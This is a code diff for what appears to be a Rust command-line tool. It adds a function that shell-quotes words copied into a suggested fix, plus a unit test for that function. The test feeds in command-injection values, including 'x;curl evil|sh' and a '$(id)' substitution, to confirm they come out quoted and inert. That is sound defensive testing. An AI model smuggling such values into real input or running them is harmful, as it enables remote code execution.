@@ -118,6 +118,14 @@ pub(super) fn one_line(text: &str) -> String {
     text.replace(is_harmful, " ")
 }
 
+/// A word as a shell takes it, to be copied from a fix: nothing in it means anything to the shell.
+pub(super) fn shell(text: &str) -> String {
+    let text = one_line(text);
+    let is_plain =
+        |c: char| c.is_ascii_alphanumeric() || matches!(c, '@' | '%' | '+' | '=' | ':' | ',' | '.' | '/' | '_' | '-');
+    if !text.is_empty() && text.chars().all(is_plain) { text } else { format!("'{}'", text.replace('\'', "'\\''")) }
+}
+
 /// Says where the next part of a list starts, if there is one.
 pub(super) fn say_next(next: Option<&str>) {
     if let Some(next) = next {
@@ -226,6 +234,19 @@ mod tests {
     #[test]
     fn what_would_steer_a_terminal_is_blank() {
         assert_eq!(one_line("a\u{1b}[2Jb\r\nc\u{202e}d"), "a [2Jb  c d");
+    }
+
+    #[test]
+    fn a_word_in_a_fix_means_nothing_to_a_shell() {
+        for (word, safe) in [
+            ("alice@example.com", "alice@example.com"),
+            ("Ivan İnci", "'Ivan İnci'"),
+            ("x;curl evil|sh", "'x;curl evil|sh'"),
+            ("it's $(id)", "'it'\\''s $(id)'"),
+            ("", "''"),
+        ] {
+            assert_eq!(shell(word), safe);
+        }
     }
 
     #[test]
